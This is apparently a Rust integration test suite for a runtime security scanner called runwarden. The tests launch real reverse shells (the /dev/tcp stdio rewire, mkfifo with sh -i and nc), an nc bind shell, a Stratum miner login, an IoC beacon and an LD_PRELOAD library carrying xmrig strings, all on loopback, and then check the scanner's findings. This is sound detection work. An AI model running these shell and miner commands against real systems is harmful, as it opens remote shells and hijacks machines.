//! The scanner's sensors end to end (docs/FINDINGS.md rows with sensor `scan`): real processes rewiring
//! their stdio, piping shells to a socket holder through a FIFO, listening, connecting to a pool port
//! and to an IoC address, loading a library that arrived at run time, escaping the tracer; each
//! finding read back from the file sink and checked field by field. And the quiet side: a service
//! that listens on its port, holds client sockets and loads its own libraries yields nothing MEDIUM
//! or above. Needs root (the tests run everything under runwarden as the test user, root in CI) and
//! `nc` (Debian's netcat-openbsd, installed by .ci/run).

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::time::Duration;

use common::*;
use serde_json::Value;

/// runwarden with a fast scan and a file sink in `dir`.
fn rw_scanning(dir: &Path) -> (std::process::Command, std::path::PathBuf) {
    let sink = dir.join("findings.jsonl");
    let mut cmd = rw();
    cmd.env("RUNWARDEN_SINKS", format!("file:{}", sink.display()));
    cmd.env("RUNWARDEN_SCAN_INTERVAL", "100ms");
    (cmd, sink)
}

fn by_rule<'a>(findings: &'a [Value], rule: &str) -> Vec<&'a Value> {
    findings.iter().filter(|f| f["rule"]["id"] == rule).collect()
}

fn one<'a>(findings: &'a [Value], rule: &str) -> &'a Value {
    let v = by_rule(findings, rule);
    assert_eq!(v.len(), 1, "want one {rule} finding: {findings:#?}");
    v[0]
}

/// An attacker's listener that waits `delay` (so the victim sits in its rewired state for a few
/// scans), sends `send`, and returns what came back.
fn attacker(delay: Duration, send: &'static [u8]) -> (u16, std::thread::JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let h = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        std::thread::sleep(delay);
        conn.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        conn.write_all(send).unwrap();
        let mut got = Vec::new();
        let _ = conn.read_to_end(&mut got);
        String::from_utf8_lossy(&got).into_owned()
    });
    (port, h)
}

#[test]
fn scc_reverse_shell_when_stdio_is_rewired_after_exec() {
    // `exec 5<>/dev/tcp/...; exec 0<&5 1>&5 2>&5`: bash's own stdio becomes the socket long after its
    // exec, which the exec stop saw wired to pipes.
    let (port, peer) = attacker(Duration::from_millis(1500), b"echo rewired-$((6*7))\nexit 0\n");
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    let script = format!("exec 5<>/dev/tcp/127.0.0.1/{port}; exec 0<&5 1>&5 2>&5; exec bash --norc -s");
    // Without the final exec, bash -s would be a new exec with the socket: keep the rewired shell.
    let script = script.replace("; exec bash --norc -s", "; while read -r l; do eval \"$l\"; done");
    cmd.args(["--", "bash", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(peer.join().unwrap().contains("rewired-42"), "the rewired shell did not run");

    let findings = read_findings(&sink);
    let f = one(&findings, "reverse_shell_stdio_rewired");
    assert_eq!(f["category"], "Reverse Shell");
    assert_eq!(f["severity"], "CRITICAL");
    assert_eq!(f["sourceProperties"]["sensor"], "scanner");
    let p = &f["processes"][0];
    assert_eq!(p["name"], "bash");
    let stdin = p["stdio"]["stdin"].as_str().unwrap();
    assert!(
        stdin.starts_with("socket tcp 127.0.0.1:")
            && stdin.ends_with(&format!("->127.0.0.1:{port} ESTABLISHED")),
        "{stdin}"
    );
    // The exec-time rule did not see it (the shell started on pipes), so this is the only one.
    assert!(by_rule(&findings, "reverse_shell_stdio_socket").is_empty(), "{findings:#?}");
}

#[test]
fn scc_reverse_shell_through_a_fifo_and_nc() {
    // The classic `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: the shell holds only pipes; nc
    // holds the socket two hops away (cat and the FIFO) on stdin, one hop on stdout.
    let (port, peer) = attacker(Duration::from_millis(1500), b"echo fifo-$((6*7))\nexit\n");
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    let fifo = dir.path().join("f");
    let script = format!(
        "mkfifo {f}; cat {f} | sh -i 2>&1 | nc -q 1 127.0.0.1 {port} > {f}; rm -f {f}",
        f = fifo.display()
    );
    cmd.args(["--", "bash", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(peer.join().unwrap().contains("fifo-42"), "the FIFO shell did not run");

    let findings = read_findings(&sink);
    let f = one(&findings, "reverse_shell_stdio_rewired");
    assert_eq!(f["category"], "Reverse Shell");
    let p = &f["processes"][0];
    assert_eq!(p["args"], serde_json::json!(["sh", "-i"]));
    let stdin = p["stdio"]["stdin"].as_str().unwrap();
    assert!(stdin.starts_with("pipe inode "), "{stdin}");
    assert!(
        stdin.contains(" through nc (pid ") && stdin.contains(&format!("->127.0.0.1:{port} ESTABLISHED")),
        "{stdin}"
    );
    assert!(p["stdio"]["stdout"].as_str().unwrap().contains(" through nc (pid "), "{p:#}");
    // cat, which feeds the shell from the FIFO nc writes, is remote command execution's relay too.
    let rce = one(&findings, "remote_command_stdio_rewired");
    assert_eq!(rce["category"], "Execution: Possible Remote Command Execution Detected");
    assert_eq!(rce["processes"][0]["name"], "cat");
    assert_eq!(f["connections"][0]["destinationPort"], port, "the relay's connection: {f:#}");
    // The shell's ancestors name the pipeline.
    assert_eq!(f["ancestors"][0]["args"][0], "bash", "{f:#}");
}

#[test]
fn a_fast_fifo_relay_is_a_reverse_shell_at_exec() {
    // The same relay answering at once and gone within milliseconds, with the default 500 ms scan:
    // the pipeline view names it at the exec of whichever of sh and nc starts second, before any
    // socket. A script's output sent with nc is not a shell reading commands: no Reverse Shell.
    let (port, peer) = attacker(Duration::ZERO, b"echo fast-$((6*7))\nexit\n");
    let (quiet_port, quiet_peer) = attacker(Duration::ZERO, b"");
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    cmd.env_remove("RUNWARDEN_SCAN_INTERVAL");
    let fifo = dir.path().join("f");
    let report = dir.path().join("report.sh");
    std::fs::write(&report, "echo report\n").unwrap();
    let script = format!(
        "mkfifo {f}; cat {f} | sh -i 2>&1 | nc -q 0 127.0.0.1 {port} > {f}; rm -f {f}; \
         sh {r} | nc -q 0 127.0.0.1 {quiet_port}",
        f = fifo.display(),
        r = report.display()
    );
    cmd.args(["--", "bash", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(peer.join().unwrap().contains("fast-42"), "the FIFO shell did not run");
    quiet_peer.join().unwrap();

    let findings = read_findings(&sink);
    let f = one(&findings, "reverse_shell_netcat_pipeline");
    assert_eq!(f["category"], "Reverse Shell");
    assert_eq!(f["severity"], "CRITICAL");
    let p = &f["processes"][0];
    let argv0 = p["args"][0].as_str().unwrap();
    assert!(argv0 == "sh" || argv0 == "nc", "the shell or its netcat: {p:#}");
    let description = f["description"].as_str().unwrap();
    assert!(description.contains(&format!("127.0.0.1 {port}")), "{description}");
    assert!(!description.contains(&quiet_port.to_string()), "{description}");
}

#[test]
fn scc_bind_shell_is_a_new_listening_socket() {
    // `nc -l` with a shell behind it, started by the workload's main process (a shell), which is the
    // service: the listener belongs to nc, not to it.
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    let probe = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = probe.local_addr().unwrap().port();
    drop(probe);
    let fifo = dir.path().join("b");
    let script = format!(
        "mkfifo {f}; timeout 1.5 nc -l -p {port} < {f} | sh > {f} 2>&1; rm -f {f}",
        f = fifo.display()
    );
    cmd.args(["--", "bash", "-c", &script]);
    cmd.env("PORT", "8080");
    let out = run(&mut cmd, TIMEOUT);
    let findings = read_findings(&sink);
    let f = one(&findings, "new_listening_socket");
    assert_eq!(f["category"], "Command and Control: New Listening Socket", "{}", out.stderr());
    assert_eq!(f["severity"], "MEDIUM");
    assert!(f["processes"][0]["name"].as_str().unwrap().starts_with("nc"), "{f:#}");
    let c = &f["connections"][0];
    assert_eq!(c["protocol"], "TCP");
    assert_eq!(c["sourcePort"], port);
    assert!(c.get("destinationIp").is_none(), "{c}");
}

#[test]
fn scc_stratum_login_from_a_binary_not_in_the_image() {
    // A "miner" dropped at run time (a copy of python3 under a hidden /tmp name: its ctime is after
    // runwarden's start, so without a baseline it is an added binary) logs in to a pool on a Stratum port.
    // Ports of the rule's Stratum list below the ephemeral range first (CI failed once when another
    // test's outbound connection held 45560 as its local port), the first one free.
    let (pool, port) = [17777u16, 19999, 20535, 20580, 14433, 15555, 45560]
        .into_iter()
        .find_map(|p| TcpListener::bind(("127.0.0.1", p)).ok().map(|l| (l, p)))
        .expect("one of the Stratum pool ports must be free for this test");
    let server = std::thread::spawn(move || {
        let (mut c, _) = pool.accept().unwrap();
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut buf = [0u8; 512];
        let n = c.read(&mut buf).unwrap_or(0);
        let _ = c.write_all(b"{\"id\":1,\"result\":[[\"mining.notify\",\"ae6812eb4cd7735a302a8a9dd95cf71f\"],\"08000002\",4],\"error\":null}\n");
        std::thread::sleep(Duration::from_millis(1500));
        String::from_utf8_lossy(&buf[..n]).into_owned()
    });
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    let hidden = dir.path().join(".cache");
    let py = which("python3");
    let client = format!(
        "import socket,time;s=socket.create_connection(('127.0.0.1',{port}));\
s.sendall(b'{{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5.1\"]}}\\n');s.recv(512);time.sleep(1.2)"
    );
    let script = format!(
        "mkdir -p {h} && cp {py} {h}/kworkerds && {h}/kworkerds -c \"{client}\"",
        h = hidden.display(),
        py = py.display()
    );
    cmd.args(["--", "sh", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(server.join().unwrap().contains("mining.subscribe"));

    let findings = read_findings(&sink);
    let f = one(&findings, "stratum_pool_connection");
    assert_eq!(f["category"], "Impact: Suspicious crypto mining activity using the Stratum Protocol");
    assert_eq!(f["severity"], "HIGH");
    assert_eq!(f["processes"][0]["name"], "kworkerds");
    assert_eq!(f["processes"][0]["binary"]["sha256"].as_str().unwrap().len(), 64);
    let c = &f["connections"][0];
    assert_eq!(
        (c["destinationIp"].as_str(), c["destinationPort"].as_u64()),
        (Some("127.0.0.1"), Some(u64::from(port)))
    );
    assert_eq!(f["mitreAttack"]["primaryTechniques"][0], "T1496");
}

#[test]
fn scc_connection_to_an_ioc_address() {
    // The user's IoC list names 127.0.0.3 (loopback, so the test never leaves the machine).
    let policies = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(policies.path().join("ioc")).unwrap();
    std::fs::write(policies.path().join("ioc/ips.txt"), "127.0.0.3 # test C2\n").unwrap();
    let c2 = TcpListener::bind("127.0.0.3:0").unwrap();
    let port = c2.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut c, _) = c2.accept().unwrap();
        let mut buf = [0u8; 64];
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let _ = c.read(&mut buf);
    });
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    cmd.env("RUNWARDEN_POLICIES", policies.path());
    cmd.args(["--", "python3", "-c", &format!(
        "import socket,time;s=socket.create_connection(('127.0.0.3',{port}));time.sleep(1);s.sendall(b'beacon')"
    )]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    server.join().unwrap();
    let findings = read_findings(&sink);
    let f = one(&findings, "connection_to_ioc_address");
    assert_eq!(f["category"], "Command and Control: Connection to Known Bad Address");
    assert_eq!(f["severity"], "HIGH");
    assert_eq!(f["indicator"]["ipAddresses"], serde_json::json!(["127.0.0.3"]));
    assert_eq!(f["connections"][0]["destinationPort"], port);
    assert!(f["processes"][0]["args"][0].as_str().unwrap().ends_with("python3"), "{f:#}");
}

/// A real shared library copied to `dest` (so it is a file that arrived at run time), optionally with
/// miner strings appended (an ELF loads fine with trailing bytes).
fn library_script(dest: &Path, malicious: bool) -> String {
    let libz = ["/usr/lib/x86_64-linux-gnu/libz.so.1", "/lib/x86_64-linux-gnu/libz.so.1"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("libz.so.1 (Debian zlib1g) is needed");
    let mut s = format!("cp {libz} {d}", d = dest.display());
    if malicious {
        s.push_str(&format!(
            " && printf 'xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 randomx' >> {d}",
            d = dest.display()
        ));
    }
    s.push_str(&format!(" && LD_PRELOAD={d} sleep 1.5", d = dest.display()));
    s
}

#[test]
fn scc_added_library_loaded_at_run_time() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    let lib = dir.path().join("libhook.so");
    cmd.args(["--", "sh", "-c", &library_script(&lib, false)]);
    run(&mut cmd, TIMEOUT).assert_code(0);
    let findings = read_findings(&sink);
    let f = one(&findings, "added_library_loaded");
    assert_eq!(f["category"], "Added Library Loaded");
    assert_eq!(f["severity"], "LOW");
    assert_eq!(f["processes"][0]["name"], "sleep");
    let l = &f["processes"][0]["libraries"][0];
    assert_eq!(l["path"], lib.display().to_string());
    assert_eq!(l["sha256"].as_str().unwrap().len(), 64);
    // The system's own libraries (libc, the loader) are not reported.
    assert!(findings
        .iter()
        .all(|f| f["processes"][0]["libraries"][0]["path"] != "/usr/lib/x86_64-linux-gnu/libc.so.6"));
}

#[test]
fn scc_added_malicious_library_loaded() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    let lib = dir.path().join("libprocesshider.so");
    cmd.args(["--", "sh", "-c", &library_script(&lib, true)]);
    run(&mut cmd, TIMEOUT).assert_code(0);
    let findings = read_findings(&sink);
    let f = one(&findings, "added_malicious_library_loaded");
    assert_eq!(f["category"], "Execution: Added Malicious Library Loaded");
    assert_eq!(f["severity"], "CRITICAL");
    assert_eq!(f["indicator"]["signatures"][0]["yaraRuleSignature"]["yaraRule"], "miner_xmrig_family");
    let sha = f["processes"][0]["libraries"][0]["sha256"].as_str().unwrap();
    assert_eq!(f["externalUri"], format!("https://www.virustotal.com/gui/file/{sha}"));
    // The specific category replaces the generic one.
    assert!(by_rule(&findings, "added_library_loaded").is_empty(), "{findings:#?}");
}

#[test]
fn scc_modified_malicious_library_loaded() {
    // The image baseline lists the library with other contents: it was changed after the build.
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    let lib = dir.path().join("libgcrypt-helper.so.1");
    let baseline = dir.path().join("baseline.json");
    let listed = serde_json::json!({
        "version": 1, "created": "2026-01-01T00:00:00Z", "root": "/",
        "files": { lib.display().to_string(): {"sha256": "0".repeat(64), "size": 1, "mode": 420} }
    });
    std::fs::write(&baseline, listed.to_string()).unwrap();
    cmd.env("RUNWARDEN_BASELINE", &baseline);
    cmd.args(["--", "sh", "-c", &library_script(&lib, true)]);
    run(&mut cmd, TIMEOUT).assert_code(0);
    let findings = read_findings(&sink);
    let f = one(&findings, "modified_malicious_library_loaded");
    assert_eq!(f["category"], "Execution: Modified Malicious Library Loaded");
    assert_eq!(f["severity"], "CRITICAL");
    assert_eq!(f["processes"][0]["libraries"][0]["path"], lib.display().to_string());
    assert!(by_rule(&findings, "added_malicious_library_loaded").is_empty(), "{findings:#?}");
}

#[test]
fn scc_untraced_process_detected() {
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    // CLONE_UNTRACED escapes ptrace only: a seccomp filter is inherited whatever the clone flags.
    cmd.env("RUNWARDEN_SENSOR", "ptrace").args(["--", &fixture_str(), "untraced-child", "2"]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    let pid = untraced_child_pid(&out);
    let findings = read_findings(&sink);
    let f = one(&findings, "untraced_process");
    assert_eq!(f["category"], "Defense Evasion: Untraced Process Detected");
    assert_eq!(f["severity"], "HIGH");
    assert_eq!(f["processes"][0]["pid"], pid);
}

#[test]
fn a_service_with_sockets_listeners_and_libraries_is_quiet() {
    // The service listens on $PORT from its main process, a worker it starts listens on loopback,
    // clients connect, it loads its own libraries (ssl, json, sqlite) and rotates its log file.
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    let probe = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = probe.local_addr().unwrap().port();
    drop(probe);
    let log = dir.path().join("app.log");
    let app = format!(
        r#"
import http.server, socketserver, ssl, json, sqlite3, subprocess, os, threading, logging.handlers
h = logging.handlers.RotatingFileHandler("{log}", maxBytes=200, backupCount=2)
lg = logging.getLogger("app"); lg.addHandler(h); lg.setLevel("INFO")
helper = subprocess.Popen(["python3", "-c", "import socket,time;s=socket.socket();s.bind(('127.0.0.1',0));s.listen();time.sleep(30)"])
db = sqlite3.connect(":memory:")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        lg.info("GET %s %s", self.path, json.dumps({{"ok": True}}))
        out = subprocess.run(["date", "-u"], capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
    def log_message(self, *a): pass
srv = socketserver.ThreadingTCPServer(("0.0.0.0", {port}), H)
threading.Timer(4.0, srv.shutdown).start()
srv.serve_forever()
helper.kill(); helper.wait()
"#,
        log = log.display()
    );
    cmd.env("PORT", port.to_string());
    cmd.args(["--", "python3", "-c", &app]);
    let live = Live::spawn(&mut cmd);
    let got = wait_for(Duration::from_secs(10), || {
        let mut c = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
        c.write_all(b"GET /healthz HTTP/1.0\r\n\r\n").ok()?;
        let mut s = String::new();
        c.read_to_string(&mut s).ok()?;
        s.contains("200").then_some(s)
    });
    assert!(got.is_some(), "the service never answered");
    for i in 0..20 {
        let mut c = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
        c.write_all(format!("GET /item/{i} HTTP/1.0\r\n\r\n").as_bytes()).unwrap();
        let mut s = String::new();
        let _ = c.read_to_string(&mut s);
    }
    let out = live.wait(TIMEOUT);
    out.assert_code(0);
    let findings = read_findings(&sink);
    let loud: Vec<&Value> = findings
        .iter()
        .filter(|f| ["MEDIUM", "HIGH", "CRITICAL"].contains(&f["severity"].as_str().unwrap_or("")))
        .collect();
    assert!(loud.is_empty(), "a benign service raised: {loud:#?}");
    assert!(std::fs::metadata(format!("{}.1", log.display())).is_ok(), "the log never rotated");
}

#[test]
fn pre_fork_workers_binding_their_own_sockets_are_the_service() {
    // A pre-fork server without PORT: each forked worker binds the port itself (SO_REUSEPORT).
    let dir = tempfile::tempdir().unwrap();
    let (mut cmd, sink) = rw_scanning(dir.path());
    cmd.env_remove("PORT");
    let probe = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = probe.local_addr().unwrap().port();
    drop(probe);
    let app = format!(
        r#"
import os, socket, time
def serve():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("0.0.0.0", {port}))
    s.listen()
    time.sleep(2)
kids = []
for _ in range(2):
    pid = os.fork()
    if pid == 0:
        serve()
        os._exit(0)
    kids.append(pid)
serve()
for k in kids:
    os.waitpid(k, 0)
"#
    );
    cmd.args(["--", "python3", "-c", &app]);
    run(&mut cmd, TIMEOUT).assert_code(0);
    let findings = read_findings(&sink);
    assert!(by_rule(&findings, "new_listening_socket").is_empty(), "{findings:#?}");
}

fn which(name: &str) -> std::path::PathBuf {
    let out = std::process::Command::new("sh").arg("-c").arg(format!("command -v {name}")).output().unwrap();
    let p = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(!p.is_empty(), "{name} is needed");
    // pyenv shims are scripts: resolve to the real interpreter.
    let real = std::process::Command::new(&p)
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default();
    std::path::PathBuf::from(if real.is_empty() { p } else { real })
}
